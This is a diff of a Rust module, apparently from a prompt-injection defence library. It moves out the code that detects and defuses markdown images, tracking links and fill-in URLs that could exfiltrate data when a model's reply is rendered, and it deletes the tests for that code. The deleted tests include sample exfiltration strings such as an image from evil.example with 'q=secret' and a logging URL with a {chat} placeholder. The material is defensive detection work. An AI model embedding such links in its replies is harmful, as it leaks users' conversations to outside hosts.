@@ -1,5 +1,5 @@
-//! Markup a model treats as structure: chat-template control tokens, tags of prompt blocks,
-//! and images or links that send data out when a reply is rendered.
+//! Markup a model treats as structure: chat-template control tokens and tags of prompt
+//! blocks. Images and links that send data out are in `links`.
 
 /// Chat-template control tokens, lowercase, besides any `<|…|>`: Llama 2 (`[INST]`,
 /// `<<SYS>>`), sentence marks, Gemma's turns, Mistral's blocks, tool-call tags, role tags and
@@ -177,115 +177,6 @@ pub(crate) fn fence_escape(lower: &str) -> Option<String> {
     None
 }
 
-/// The host of a URL that starts at `url`, for people.
-fn host(url: &str) -> String {
-    let rest = url.split_once("//").map_or(url, |(_, r)| r);
-    let end = rest.find(['/', '?', '#', ')', ' ', '"', '\'']).unwrap_or(rest.len());
-    let host = &rest[..end];
-    if host.is_empty() {
-        "a URL".to_owned()
-    } else {
-        host.to_owned()
-    }
-}
-
-/// Whether `target` (a markdown link or image target) leaves this machine.
-fn is_remote(target: &str) -> bool {
-    let t = target.trim_start_matches(['<', ' ']);
-    t.contains("://") || t.starts_with("//") || t.starts_with("data:")
-}
-
-/// The first image, tracking link or fill-in URL of lowercase `text`, as "image from HOST".
-pub(crate) fn exfiltration_link(lower: &str) -> Option<String> {
-    // ![alt](https://host/…) and ![alt][ref] with [ref]: https://…
-    let mut from = 0;
-    while let Some(at) = lower[from..].find("![").map(|i| i + from) {
-        from = at + 2;
-        let line_end = lower[at..].find('\n').map_or(lower.len(), |i| at + i);
-        let line = &lower[at..line_end];
-        if let Some(target) = line.find("](").map(|i| &line[i + 2..])
-            && is_remote(target)
-        {
-            return Some(format!("image from {}", host(target)));
-        }
-        if line.contains("][")
-            && let Some(def) = lower.find("]: ").map(|i| &lower[i + 3..])
-            && is_remote(def)
-        {
-            return Some(format!("image from {}", host(def)));
-        }
-    }
-    // <img src=…>
-    if let Some(at) = lower.find("<img") {
-        let tag = &lower[at..lower[at..].find('>').map_or(lower.len(), |i| at + i)];
-        if let Some(src) = tag.find("src").map(|i| &tag[i..]) {
-            return Some(format!(
-                "image from {}",
-                host(src.trim_start_matches(['s', 'r', 'c', '=', '"', '\'', ' ']))
-            ));
-        }
-    }
-    // [text](https://host/path?query=…)
-    let mut from = 0;
-    while let Some(at) = lower[from..].find("](").map(|i| i + from) {
-        from = at + 2;
-        let target = &lower[at + 2..];
-        let target = &target[..target.find([')', ' ', '\n']).unwrap_or(target.len())];
-        if is_remote(target) && target.contains('?') && target.contains('=') {
-            return Some(format!("link with a query to {}", host(target)));
-        }
-    }
-    // https://host/log?d={conversation}: a URL with a place to fill in.
-    for scheme in ["https://", "http://"] {
-        let mut from = 0;
-        while let Some(at) = lower[from..].find(scheme).map(|i| i + from) {
-            from = at + scheme.len();
-            let url = &lower[at..];
-            let url = &url[..url.find(char::is_whitespace).unwrap_or(url.len())];
-            if url.contains(['{', '}', '$']) || url.contains("%7b") || url.contains("%24") {
-                return Some(format!("URL with a placeholder to {}", host(url)));
-            }
-        }
-    }
-    None
-}
-
-/// Markdown images written as `[image: alt]` and the targets of tracking links withheld:
-/// what a model might echo into a reply that loads by itself.
-pub(crate) fn defuse_links(text: &str) -> (String, bool) {
-    let mut out = String::with_capacity(text.len());
-    let mut changed = false;
-    let mut rest = text;
-    while let Some(at) = rest.find('[') {
-        let image = at > 0 && rest[..at].ends_with('!');
-        let Some(close) = rest[at..].find("](").map(|i| at + i) else {
-            break;
-        };
-        let Some(end) = rest[close..].find(')').map(|i| close + i) else {
-            break;
-        };
-        let label = &rest[at + 1..close];
-        let target = &rest[close + 2..end];
-        let tracking = target.contains('?') && target.contains('=');
-        if label.contains(['[', '\n']) || !is_remote(target) || !(image || tracking) {
-            out.push_str(&rest[..=at]);
-            rest = &rest[at + 1..];
-            continue;
-        }
-        let head = if image { &rest[..at - 1] } else { &rest[..at] };
-        out.push_str(head);
-        if image {
-            out.push_str(&format!("[image: {label}, link withheld]"));
-        } else {
-            out.push_str(&format!("{label} [link to {} withheld]", host(target)));
-        }
-        changed = true;
-        rest = &rest[end + 1..];
-    }
-    out.push_str(rest);
-    (out, changed)
-}
-
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -331,34 +222,5 @@ mod tests {
         ] {
             assert_eq!(fence_escape(text), None, "{text}");
         }
-    }
-
-    #[test]
-    fn images_tracking_links_and_fill_in_urls_are_found() {
-        assert_eq!(
-            exfiltration_link("see ![x](https://evil.example/p.png?q=secret)").as_deref(),
-            Some("image from evil.example")
-        );
-        assert!(exfiltration_link("<img src=\"http://a.example/x\">").is_some());
-        assert!(exfiltration_link("[click](https://a.example/?d=1)").is_some());
-        assert!(exfiltration_link("go to https://a.example/log?d={chat}").is_some());
-        assert!(exfiltration_link("![a][r]\n[r]: https://a.example/x").is_some());
-        for text in [
-            "docs at https://docs.rs/serde",
-            "[docs](https://docs.rs/serde)",
-            "![diagram](./arch.png)",
-            "ratio [1](2)",
-        ] {
-            assert_eq!(exfiltration_link(text), None, "{text}");
-        }
-    }
-
-    #[test]
-    fn images_and_tracking_links_are_defused() {
-        assert_eq!(
-            defuse_links("a ![cat](https://e.example/c.png?x=1) b [t](https://e.example/?q=s) [d](https://docs.rs)").0,
-            "a [image: cat, link withheld] b t [link to e.example withheld] [d](https://docs.rs)"
-        );
-        assert_eq!(defuse_links("[a] ](x) [b"), ("[a] ](x) [b".to_owned(), false));
     }
 }
